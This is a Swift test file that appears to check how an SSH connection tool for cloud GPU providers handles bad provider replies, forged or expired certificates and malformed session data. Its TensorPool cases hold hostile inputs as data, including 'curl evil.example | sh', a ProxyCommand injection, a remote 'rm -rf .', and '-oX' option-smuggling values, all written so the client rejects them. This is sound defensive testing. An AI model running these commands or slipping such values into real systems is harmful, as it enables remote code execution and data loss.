import Foundation
import TestSupport

extension FaultTable {
  static let statuses = dedalus + certificates + prime + tensorpool + commands

  private static let dedalus: [Fault] = [
    poll("Dedalus: the session has failed", status: 69, says: "the session has failed") { _, id in
      #"{"session_id":"\#(id)","machine_id":"dm-1","status":"failed","created_at":"x","error_code":"E","error_message":"no capacity"}"#
    },
    poll("Dedalus: the session has expired", status: 69, says: "the session has expired") {
      word("expired", $1)
    },
    poll("Dedalus: the session is closed", status: 69, says: "the session has closed") {
      word("closed", $1)
    },
    poll("Dedalus: a status that nobody knows", status: 65, says: "is unknown") {
      word("asleep", $1)
    },
    poll(
      "Dedalus: waking until the deadline", status: 75, says: "error: dm-1.dedalus: wa",
      left: Left(there: 1), within: Fault.atDeadline
    ) { word("wake_in_progress", $1) },
    poll("Dedalus: ssh_in_progress and then ready", status: 0, left: .session) { provider, id in
      provider.count(of: .dedalusPoll) < 4 ? word("ssh_in_progress", id) : provider.dedalusReady(id)
    },
    connection("an endpoint that is no host", "endpoint", [#""a b""#, #""-x""#, #""""#]),
    connection("a login that is none", "ssh_username", [#""-oX""#, #""a b""#, #""""#]),
    connection(
      "a host trust of another kind", "host_trust",
      [#"{"kind":"any","host_pattern":"*","public_key":"k"}"#]),
    connection(
      "an authority that is no key", "host_trust",
      [
        #"{"kind":"cert_authority","host_pattern":"127.0.0.1","public_key":"ssh-ed25519 AAAA"}"#
      ]),
    poll(
      "Dedalus: an authority for another host", status: 65, says: "the host authority is for"
    ) { provider, id in
      let key = (try? Authority.shared.get().publicKey) ?? ""
      return provider.dedalusReady(
        id,
        [
          "host_trust":
            #"{"kind":"cert_authority","host_pattern":"*.example","public_key":"\#(key)"}"#
        ])
    },
  ]

  /// A user certificate has to be for our key, for a user, for now and for the login.
  private static let certificates: [Fault] = [
    certificate("for another key") { authority, _ in
      try authority.certificate(for: authority.otherKey, principals: "u-1")
    },
    certificate("for a host") { try $0.certificate(for: $1, principals: "u-1", ["-h"]) },
    certificate("that has expired") {
      try $0.certificate(for: $1, principals: "u-1", validity: "-2h:-1h")
    },
    certificate("that is not valid yet") {
      try $0.certificate(for: $1, principals: "u-1", validity: "+1h:+2h")
    },
    certificate("for another login") { try $0.certificate(for: $1, principals: "root") },
    certificate("for any login") { try $0.certificate(for: $1, principals: nil) },
    certificate("that is a plain key") { $1 },
    certificate("cut in the middle") {
      String(try $0.certificate(for: $1, principals: "u-1").prefix(300))
    },
    certificate("that is empty") { _, _ in "" },
  ]

  private static let prime: [Fault] = [
    create("a 422 about public_key, in the shape of errors", status: 0, left: .session, once: true)
    {
      _, _ in
      Reply(422, #"{"errors":[{"param":"public_key","details":"Extra inputs are not permitted"}]}"#)
    },
    create("a 422 about public_key, in the shape of detail", status: 0, left: .session, once: true)
    {
      _, _ in
      Reply(
        422, #"{"detail":[{"loc":["body","public_key"],"msg":"Extra inputs are not permitted"}]}"#)
    },
    create("a 422 about public_key for ever", status: 69, says: "Extra inputs") { _, _ in
      Reply(422, #"{"errors":[{"param":"public_key","details":"Extra inputs are not permitted"}]}"#)
    },
    create("a 422 about another field", status: 69, says: "ttl_seconds: too long") { _, _ in
      Reply(422, #"{"errors":[{"param":"ttl_seconds","details":"too long"}]}"#)
    },
    create("a session that has expired already", status: 65, says: "has expired already") {
      Reply(200, $0.primeSession($1, expires: -60))
    },
    create("an end that is no time", status: 65, says: "is not a time") { provider, request in
      Reply(
        200,
        JSONText.replacing(["expires_at"], in: provider.primeSession(request), by: #""tomorrow""#))
    },
    create("an end in the year 9999", status: 0, left: .session) { provider, request in
      Reply(
        200,
        JSONText.replacing(
          ["expires_at"], in: provider.primeSession(request), by: #""9999-12-31T23:59:59Z""#))
    },
    create(
      "a member named twice, the second time with an option: the first counts", status: 0,
      left: .session
    ) { provider, request in
      Reply(200, provider.primeSession(request).dropLast() + #","session_id":"-oX=y"}"#)
    },
    create(
      "a member named twice, the first time with an option", status: 65, says: "\"session_id\""
    ) { provider, request in
      let body = provider.unlearnt(.primeCreate, request).body
      return Reply(200, #"{"session_id":"-oX=y","# + body.dropFirst())
    },
  ]

  private static let tensorpool: [Fault] =
    [
      (
        "a message instead of a command", 69, "TensorPool says: no capacity",
        #"{"message":"no capacity"}"#
      ),
      ("neither command nor message", 65, "lacks \"command\"", "{}"),
      ("an empty command", 65, "error: ", #"{"command":""}"#),
      ("a command that is not ssh", 65, "error: ", #"{"command":"curl evil.example | sh"}"#),
      (
        "a command with ProxyCommand", 65, "error: ",
        #"{"command":"ssh -oProxyCommand=x ubuntu@127.0.0.1"}"#
      ),
      (
        "a command with a remote command", 65, "error: ",
        #"{"command":"ssh ubuntu@127.0.0.1 rm -rf ."}"#
      ),
      ("a command without a host", 65, "error: ", #"{"command":"ssh"}"#),
      ("a command with a port beyond all", 65, "-p", #"{"command":"ssh a@127.0.0.1 -p 99999"}"#),
      (
        "a command that ends in the middle of a quote", 65, "error: ",
        #"{"command":"ssh 'ubuntu@127"}"#
      ),
    ].map { name, status, words, body in
      Fault(
        .status, "TensorPool: \(name)", status: status, says: words, alias: "node1.tensorpool"
      ) { testHome in
        testHome.provider.setFault { call, _, _ in call == .tensorpoolAsk ? Reply(200, body) : nil }
        return [try testHome.connect("node1.tensorpool")]
      }
    }

  private static func word(_ status: String, _ id: String) -> String {
    #"{"session_id":"\#(id)","machine_id":"dm-1","status":"\#(status)","created_at":"x"}"#
  }

  private static func poll(
    _ name: String, status: Int32, says words: String = "", left: Left? = nil,
    within: Double = Fault.atOnce, body: @escaping @Sendable (ScriptedProvider, String) -> String
  ) -> Fault {
    Fault(
      .status, name, status: status, says: words, left: left ?? .nothing, within: within,
      alias: "dm-1.dedalus"
    ) { testHome in
      testHome.provider.setFault { [unowned provider = testHome.provider] call, _, request in
        guard call == .dedalusPoll else { return nil }
        let id = request.path.split(separator: "/").last.map(String.init) ?? ""
        return Reply(200, body(provider, id))
      }
      return [try testHome.connect("dm-1.dedalus")]
    }
  }

  private static func connection(_ name: String, _ member: String, _ values: [String]) -> Fault {
    Fault(
      .status, "Dedalus: \(name)", status: 65, says: "error: ", alias: "dm-1.dedalus"
    ) { testHome in
      try values.map { value in
        testHome.wipe()
        testHome.provider.setFault { [unowned provider = testHome.provider] call, _, request in
          guard call == .dedalusPoll else { return nil }
          let id = request.path.split(separator: "/").last.map(String.init) ?? ""
          return Reply(200, provider.dedalusReady(id, [member: value]))
        }
        return try testHome.connect("dm-1.dedalus")
      }
    }
  }

  private static func certificate(
    _ name: String, _ make: @escaping @Sendable (Authority, String) throws -> String
  ) -> Fault {
    poll("Dedalus: a certificate \(name)", status: 65, says: "certificate") { provider, id in
      let line = try? make(try Authority.shared.get(), provider.publicKey(of: id))
      return provider.dedalusReady(id, ["user_certificate": "\"\(line ?? "none was made")\""])
    }
  }

  private static func create(
    _ name: String, status: Int32, says words: String = "", left: Left = .nothing,
    once: Bool = false, _ reply: @escaping CallCase.MakeReply
  ) -> Fault {
    Fault(.status, "Prime: \(name)", status: status, says: words, left: left) { testHome in
      testHome.provider.setFault { [unowned provider = testHome.provider] call, number, request in
        guard call == .primeCreate, !once || number == 0 else { return nil }
        return reply(provider, request)
      }
      return [try testHome.connect()]
    }
  }
}
